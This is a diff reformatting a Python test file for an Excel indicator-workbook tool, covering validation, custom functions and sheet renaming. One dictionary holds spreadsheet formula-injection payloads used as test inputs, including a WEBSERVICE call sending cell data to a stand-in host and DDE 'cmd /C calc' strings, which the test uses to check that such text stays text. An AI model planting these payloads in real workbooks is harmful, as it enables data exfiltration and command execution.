@@ -75,7 +75,11 @@ def test_validasi_menghapus_tanda_lama(tmp_path):
     wb["IKU"]["S6"] = 150
     wb.save(path)
     aksi = jalankan(path, "validasi")
-    warna = [(a["start_row"], a["start_column"], a["args"][0]) for a in aksi if a["func"] == "setRangeColor" and a["sheet_position"] == 1]
+    warna = [
+        (a["start_row"], a["start_column"], a["args"][0])
+        for a in aksi
+        if a["func"] == "setRangeColor" and a["sheet_position"] == 1
+    ]
     assert (5, 18, None) in warna  # S6 cleared
     assert not any(str(w).lower() == "#ffc7ce" for *_, w in warna)
 
@@ -91,8 +95,9 @@ def test_bukan_workbook_iku_pesan_jelas(tmp_path):
 
 
 async def _fungsi(nama, *args):
-    return await custom_functions_call({"func_name": nama, "args": list(args), "client": "Office.js",
-                                        "version": xw.__version__, "runtime": "1.4"}, fungsi)
+    return await custom_functions_call(
+        {"func_name": nama, "args": list(args), "client": "Office.js", "version": xw.__version__, "runtime": "1.4"}, fungsi
+    )
 
 
 def panggil(nama, *args):
@@ -100,9 +105,13 @@ def panggil(nama, *args):
 
 
 def test_capaian_larik_kosong_teks_dan_alasan():
-    hasil = panggil("CAPAIAN", [[7], [8], [0], [None], ["20 Unit"], ["80 - 90"]],
-                    [[6.5], [9], [5], [None], ["18"], [95]], [["negatif"], ["negatif"], ["negatif"], [None], ["positif"], ["positif"]],
-                    [[None]])
+    hasil = panggil(
+        "CAPAIAN",
+        [[7], [8], [0], [None], ["20 Unit"], ["80 - 90"]],
+        [[6.5], [9], [5], [None], ["18"], [95]],
+        [["negatif"], ["negatif"], ["negatif"], [None], ["positif"], ["positif"]],
+        [[None]],
+    )
     assert hasil[0][0] == pytest.approx(107.142857142857) and hasil[1][0] == 87.5
     assert hasil[2][0] == "tidak dapat dihitung: target 0" and hasil[3][0] == ""
     assert hasil[4][0] == 90.0 and hasil[5][0] == pytest.approx(95 / 90 * 100)  # positif above the range (SMK)
@@ -126,14 +135,20 @@ def test_capaian_polaritas_kosong_seperti_kolom_workbook():
 
 def test_kategori_dengan_skala_referensi():
     assert panggil("KATEGORI", [[90.5], [91], [None], ["tidak dapat dihitung: target 0"]], [[None]]) == [
-        ["Tinggi"], ["Sangat Tinggi"], [""], ["Tidak dapat dihitung"]]
+        ["Tinggi"],
+        ["Sangat Tinggi"],
+        [""],
+        ["Tidak dapat dihitung"],
+    ]
     skala = [[">", 85, "Memuaskan"], [">", 75, "Sangat Baik"], [None, None, "Kurang"]]
     assert panggil("KATEGORI", [[85], [85.5]], skala) == [["Sangat Baik"], ["Memuaskan"]]
 
 
 def test_nilai_rumus_dan_angka():
     assert panggil("NILAI", [["(%) = [Layak] / [RTLH] × 100"]], [["Layak", "RTLH"]], [[30, 120], [1, 0]]) == [
-        [25.0], ["tidak dapat dihitung: pembagian dengan nol"]]
+        [25.0],
+        ["tidak dapat dihitung: pembagian dengan nol"],
+    ]
     assert panggil("NILAI", [["[a] +"]], [["a", 1]])[0][0].startswith("tidak dapat dihitung: rumus tidak dapat dibaca")
     angka = panggil("ANGKA", [["9,85 Ha"], ["1.234,5"], [""], ["1.500"], [12]])
     assert angka[:3] == [[9.85], [1234.5], [""]] and angka[4] == [12]
@@ -143,9 +158,16 @@ def test_nilai_rumus_dan_angka():
 # Texts staff may type that Excel's formula setter would otherwise take for a formula, a date or a boolean, in
 # IKU cells whose text ikuxl's sheets hold as a value: indicators on Komponen, sasaran and jabatan on Ringkasan
 # (Realisasi shows IKU's cells through formulas)
-MIRIP_RUMUS = {"G5": '+WEBSERVICE("http://x.example/?"&A1)', "G8": "@SUM(1+1)*cmd|' /C calc'!A0",
-               "G6": "-2+3+cmd|' /C calc'!A0", "G7": " =1+1", "G9": '\t=HYPERLINK("http://x.example")',
-               "C5": "1/2", "D5": "TRUE", "C6": "'kutip"}
+MIRIP_RUMUS = {
+    "G5": '+WEBSERVICE("http://x.example/?"&A1)',
+    "G8": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "G6": "-2+3+cmd|' /C calc'!A0",
+    "G7": " =1+1",
+    "G9": '\t=HYPERLINK("http://x.example")',
+    "C5": "1/2",
+    "D5": "TRUE",
+    "C6": "'kutip",
+}
 
 
 def test_teks_mirip_rumus_tetap_teks(tmp_path):
@@ -191,8 +213,12 @@ def test_lembar_berganti_huruf_dibaca_seperti_excel(tmp_path):
     with zipfile.ZipFile(acuan) as zin, zipfile.ZipFile(kecil, "w", zipfile.ZIP_DEFLATED) as zout:
         for n in zin.namelist():  # renamed as Excel stores it (openpyxl would make "iku1" of a case-only rename)
             isi = zin.read(n)
-            zout.writestr(n, isi.replace(b'name="IKU"', b'name="iku"').replace(b'name="Realisasi"', b'name="realisasi"')
-                          if n == "xl/workbook.xml" else isi)
+            zout.writestr(
+                n,
+                isi.replace(b'name="IKU"', b'name="iku"').replace(b'name="Realisasi"', b'name="realisasi"')
+                if n == "xl/workbook.xml"
+                else isi,
+            )
     hasil_acuan, hasil_kecil = recalc(acuan, tmp_path / "a.xlsx"), recalc(kecil, tmp_path / "k.xlsx")
     assert (hasil_kecil.indikator, hasil_kecil.capaian_rata) == (hasil_acuan.indikator, hasil_acuan.capaian_rata)
     assert hasil_kecil.capaian_rata is not None
